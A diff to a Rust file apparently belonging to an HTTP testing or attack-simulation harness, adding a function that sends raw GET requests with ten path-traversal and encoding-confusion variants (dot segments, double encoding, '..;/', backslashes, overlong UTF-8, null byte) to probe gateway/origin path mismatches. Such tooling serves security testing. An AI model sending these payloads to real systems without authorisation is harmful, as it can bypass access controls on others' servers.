@@ -6,7 +6,7 @@ use std::time::Duration;
 use tokio::io::AsyncReadExt;
 use tokio::time::timeout_at;
 
-use super::connections::get_request;
+use super::connections::{get_request, request_loop};
 use super::context::{Attacker, End};
 use super::http_1::{count_status, drip, hold, hold_on, write};
 
@@ -187,6 +187,30 @@ fn is_last_response(answer: &[u8]) -> bool {
     let head = String::from_utf8_lossy(answer).to_ascii_lowercase();
     let head = head.split("\r\n\r\n").next().unwrap_or_default();
     head.lines().any(|line| line == "connection: close")
+}
+
+/// Spellings of a page that some servers take for another one: below `/hooks/`, and elsewhere once dot
+/// segments, backslashes, escapes or parameters are resolved.
+const CONFUSING: [&str; 10] = [
+    "/hooks/../search",
+    "/hooks/%2e%2e/search",
+    "/hooks/.%2E/search",
+    "/hooks/%252e%252e/search",
+    "/hooks/..;/search",
+    "/hooks\\..\\search",
+    "/hooks/..%5csearch",
+    "/hooks/..%2fsearch",
+    "/hooks%2fx/%00",
+    "/%c0%ae%c0%ae/search",
+];
+
+/// Requests pages by paths that gate and origin could read differently.
+pub(super) async fn path_confusion(attacker: Attacker) -> End {
+    request_loop(&attacker, Duration::from_millis(100), 50, |round| {
+        let path = CONFUSING[round as usize % CONFUSING.len()];
+        format!("GET {path} HTTP/1.1\r\nHost: {}\r\n\r\n", attacker.host())
+    })
+    .await
 }
 
 #[cfg(test)]
